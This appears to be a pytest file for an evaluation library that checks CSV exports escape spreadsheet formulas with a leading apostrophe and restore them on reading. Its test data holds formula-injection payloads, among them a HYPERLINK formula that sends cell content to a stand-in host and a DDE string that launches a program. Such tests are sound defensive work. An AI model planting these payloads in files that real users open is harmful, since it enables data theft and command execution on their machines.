"""Tables that are opened in a spreadsheet: an answer is never a formula, and what we read back is as it was."""

import csv
from pathlib import Path
from typing import Any

import pytest

from simeval import dataset_of
from simeval.analysis.labels import read_labels, write_sample
from simeval.core.row_files import quoted_cell, unquoted_cell
from tests.support.command_line import simeval
from tests.support.experiments import engine, length

pytestmark = pytest.mark.anyio

FORMULAS = ['=HYPERLINK("http://x?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "'=1"]
PLAIN = ["-3", "+1.5", "-2e-3", "-7%", "5", "hello = world", "'tis", "", "−3", "a\n=b"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_begins_as_a_formula_has_an_apostrophe_that_is_taken_away_again(text: str) -> None:
    assert quoted_cell(text) == f"'{text}"
    assert unquoted_cell(f"'{text}") == text


@pytest.mark.parametrize("value", [*PLAIN, -3, 1.5, None, True])
def test_numbers_and_other_texts_stay_as_they_are(value: Any) -> None:
    assert quoted_cell(value) is value
    assert not isinstance(value, str) or unquoted_cell(value) == value


async def test_the_rows_of_a_result_hold_no_formula_whoever_wrote_it(tmp_path: Path) -> None:
    dataset = dataset_of([{"=cmd": "=1+1", "expected": "@x"}, {"=cmd": "-3", "expected": "y"}], name="cells")
    result = await engine().experiment(dataset, lambda inputs: '=HYPERLINK("http://x")', scorers=[length])

    quoted = result.rows.to_csv(tmp_path / "rows.csv")
    with (tmp_path / "rows.csv").open(encoding="utf-8", newline="") as file:
        first, second = csv.DictReader(file)

    assert (first["output"], first["inputs.=cmd"], first["reference"]) == ('\'=HYPERLINK("http://x")', "'=1+1", "'@x")
    assert (second["inputs.=cmd"], second["reference"], second["length"]) == ("-3", "y", "22.0")
    assert quoted == 4


def test_the_command_line_says_how_many_there_are(tmp_path: Path) -> None:
    (tmp_path / "qa.csv").write_text("question,expected\nWho?,x\nWhen?,y\n", encoding="utf-8")
    (tmp_path / "bot.py").write_text("def app(message):\n    return '=1+1'\n", encoding="utf-8")
    simeval(tmp_path, "score", "qa.csv", "--app", "bot:app", "--scorers", "exact_match", "--store", "simeval.db")

    done = simeval(tmp_path, "show", "last", "--rows", "--out", "rows.csv", "--store", "simeval.db")

    assert done.returncode == 0, done.stderr
    assert "; an apostrophe stands before 2 texts that a spreadsheet would take for a formula" in done.stdout


def test_a_file_of_labels_names_the_same_scenario_when_it_is_read(tmp_path: Path) -> None:
    path = tmp_path / "labels.csv"
    row = ["=Refunds", "0", "-pays back", "+ it pays", "pass", "@user: hi", "run"]

    write_sample([row, ["- a list", "1", "-3", "", "fail", "", ""]], path)

    assert "\n'=Refunds,0,'-pays back,'+ it pays,pass," in path.read_text(encoding="utf-8")
    assert [(each.scenario, each.expectation) for each in read_labels(path)] == [
        ("=Refunds", "-pays back"),
        ("- a list", "-3"),
    ]
